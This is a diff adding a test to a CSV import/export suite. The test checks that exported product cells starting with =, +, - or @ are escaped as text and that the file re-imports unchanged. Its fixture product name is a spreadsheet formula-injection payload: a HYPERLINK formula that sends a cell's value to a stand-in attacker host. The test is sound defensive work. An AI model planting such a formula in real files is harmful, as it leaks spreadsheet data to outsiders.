@@ -84,6 +84,29 @@ describe("CSV import", () => {
     expect((await prisma.variant.findFirstOrThrow({ where: { sku } })).priceVnd).toBe(99000);
   });
 
+  it("export cannot smuggle a spreadsheet formula (=, +, -, @ cells are written as text) and still re-imports unchanged", async () => {
+    const c = await client("0913000014"); // hh-014: a stall no other test changes
+    const stall = "stall-hh-014";
+    const name = `=HYPERLINK("http://evil.example/?"&A1,"Chè") ${uid()}`;
+    const p = await prisma.product.create({
+      data: { stallId: stall, householdId: "hh-014", slug: uid("formula"), name, description: "@SUM(1+1)", variants: { create: [{ label: "+Túi 200 g", priceVnd: 100000, stock: 3, sku: "-A1" }] } },
+    });
+    const res = (await exportLoader(args(get(c, `/console/stalls/${stall}/products.csv`), { stallId: stall }))) as Response;
+    const text = Buffer.from(await res.arrayBuffer()).toString("utf8").replace(/^\uFEFF/, "");
+    const row = (parse(text, { columns: true }) as Record<string, string>[]).find((r) => r.product_slug === p.slug)!;
+    expect(row).toMatchObject({ name: `'${name}`, description: "'@SUM(1+1)", variant_label: "'+Túi 200 g", sku: "'-A1" });
+    // no cell of the file starts a formula
+    for (const r of parse(text, { columns: false, from_line: 2 }) as string[][]) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);
+    const products = await prisma.product.count({ where: { stallId: stall } });
+    const plan = (await settle(() => csvAction(args(post(c, "/x", { intent: "preview", file: csvFile("\uFEFF" + text) }), { stallId: stall })))) as Result;
+    expect(plan.data.plan!.summary).toMatchObject({ create: 0, problems: 0 });
+    await settle(() => csvAction(args(post(c, "/x", { intent: "commit", csv: plan.data.csv! }), { stallId: stall })));
+    expect(await prisma.product.count({ where: { stallId: stall } })).toBe(products);
+    const after = await prisma.product.findUniqueOrThrow({ where: { id: p.id }, include: { variants: true } });
+    expect(after).toMatchObject({ name, description: "@SUM(1+1)" });
+    expect(after.variants.map((v) => [v.label, v.sku])).toEqual([["+Túi 200 g", "-A1"]]);
+  });
+
   it("reports unknown categories, non-members, bad GTINs, missing columns, comma files", async () => {
     const m = await client(MANAGER);
     const tag = uid("csv");
